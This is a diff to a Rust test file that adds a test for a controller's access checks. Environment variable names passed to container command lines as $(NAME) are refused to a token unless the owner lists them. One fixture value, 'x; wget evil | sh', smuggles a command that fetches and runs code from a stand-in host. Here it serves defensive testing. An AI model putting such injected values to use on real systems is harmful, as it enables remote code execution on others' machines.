@@ -10,8 +10,8 @@ use crate::crd::{
     limits::{MAX_ENV, MAX_ENV_VALUE, MAX_INSTANCES, MAX_VARIANTS},
 };
 use crate::variant::access::{
-    DeviceLimits, device_may_add, device_may_scale, env_targets, is_startup_env, literal_env_value,
-    route_device_env, validate_device_access, value_from_names,
+    DeviceLimits, command_line_names, device_may_add, device_may_scale, env_targets,
+    is_startup_env, literal_env_value, route_device_env, validate_device_access, value_from_names,
 };
 
 /// A base whose container has a literal entry, and one from each kind of `valueFrom`.
@@ -571,4 +571,51 @@ fn env_the_owner_allows_for_one_container_reaches_only_that_container() {
     assert!(said.contains("Bad_Container"), "{said}");
     assert!(said.contains("1NAME"), "{said}");
     assert!(validate_device_access(&only_nginx).is_ok());
+}
+
+// R41 (issue 35, item 1): a name the base passes to a command line as $(NAME) is refused to a
+// token unless the owner lists it, whatever else allows it
+#[test]
+fn names_on_a_command_line_are_the_owners_to_allow() {
+    let mut b = base_json();
+    b["spec"]["template"]["spec"]["containers"][0]["command"] = json!([
+        "sh",
+        "-c",
+        "exec snap --title $(TITLE) --size $$(SIZE) $(UNCLOSED"
+    ]);
+    b["spec"]["template"]["spec"]["initContainers"][0]["args"] = json!(["--mode=$(MODE)"]);
+    let names: Vec<(String, String)> = command_line_names(&b).into_iter().collect();
+    assert_eq!(
+        names,
+        [
+            ("MODE".to_owned(), "init".to_owned()),
+            ("TITLE".to_owned(), "nginx".to_owned())
+        ]
+    );
+    let add = |access: Option<&DeviceAccess>, name: &str, devices_on| {
+        device_may_add(
+            &b,
+            access,
+            &variant("board-7", &[(name, "x; wget evil | sh")], 1),
+            1,
+            devices_on,
+        )
+    };
+    let said = add(None, "TITLE", false).err().unwrap_or_default();
+    assert!(
+        said.contains("$(TITLE)") && said.contains("\"nginx\""),
+        "{said}"
+    );
+    assert!(add(None, "MODE", false).is_err());
+    // escaped, unclosed and merely similar names are not references
+    assert!(add(None, "SIZE", false).is_ok());
+    assert!(add(None, "title", false).is_ok());
+    // the owner's list allows it, with or without spec.devices
+    let listed = DeviceAccess {
+        env: Some(vec!["TITLE".into()]),
+        ..DeviceAccess::default()
+    };
+    assert!(add(Some(&listed), "TITLE", false).is_ok());
+    assert!(add(Some(&listed), "TITLE", true).is_ok());
+    assert!(command_line_names(&base_json()).is_empty());
 }
